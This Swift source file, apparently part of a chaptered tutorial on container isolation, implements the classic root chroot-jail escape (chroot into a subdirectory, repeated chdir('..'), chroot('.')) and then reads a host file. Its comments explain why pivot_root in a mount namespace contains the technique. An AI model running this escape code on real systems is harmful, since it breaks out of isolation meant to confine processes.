import Glibc
import SystemPackage

/// The classic escape of a root process from a chroot jail, as a demonstration.
///
/// A process that is root inside a chroot may call chroot(2) again. Doing so into a
/// subdirectory, *without* chdir'ing into it, leaves the working directory outside the
/// new root. The kernel stops `..` only at the process's root directory, which the
/// working directory is no longer under, so repeated `chdir("..")` climbs to the real
/// `/`, and `chroot(".")` makes it the root again. (The other classic variant keeps a
/// directory file descriptor from outside the jail and fchdir(2)s to it.)
///
/// After pivot_root(2) in a new mount namespace (chapter 02) the same steps end at the
/// container's own root: the host's root is no longer in the namespace at all.
public enum ChrootEscape {
    public struct Outcome: Sendable {
        /// Whether `target` could be read after the escape.
        public var escaped: Bool
        /// What `target` holds, when it could be read.
        public var targetContents: String?
        /// The entries of `/` after the escape.
        public var rootEntries: [String]

        /// The exit status both chapters' `escape` commands end with: 0 when the escape
        /// reached the host file, 2 when it was contained (1 stays what it is for every
        /// chapter: an error stopped the demonstration before the attempt).
        public var exitStatus: Int32 { escaped ? Outcome.escapedStatus : Outcome.containedStatus }
        public static let escapedStatus: Int32 = 0
        public static let containedStatus: Int32 = 2
    }

    /// Tries the escape and then to read `target`, a host path. `narrate` hears each
    /// system call as it is made. Changes this process's root for good: run it only in
    /// a process made for it.
    public static func attempt(target: FilePath, narrate: (String, String) -> Void) -> Outcome {
        // A directory that exists in every root filesystem of this project.
        let inner: FilePath = FileSystem.isDirectory("/tmp") ? "tmp" : "etc"
        narrate("chroot(\"\(inner)\")", "root is allowed to chroot again; our working directory stays where it was, now *outside* the new root")
        do { try FileSystem.changeRoot(inner) } catch {
            narrate("  → \(error)", "without CAP_SYS_CHROOT the escape stops here")
            return Outcome(escaped: false, targetContents: nil, rootEntries: [])
        }
        let climbs = 64
        narrate("chdir(\"..\") × \(climbs)", "`..` stops only at our root directory, which we are no longer under, so we climb to the top")
        for _ in 0..<climbs { _ = chdir("..") }
        narrate("chroot(\".\")", "make the top we reached our root directory again")
        _ = chroot(".")
        _ = chdir("/")
        let entries = (try? FileSystem.contentsOfDirectory("/")) ?? []
        narrate("open(\"\(target)\")", "can we read the host's file now?")
        if let contents = try? FileSystem.readString(target) {
            return Outcome(escaped: true, targetContents: contents, rootEntries: entries)
        }
        return Outcome(escaped: false, targetContents: nil, rootEntries: entries)
    }
}
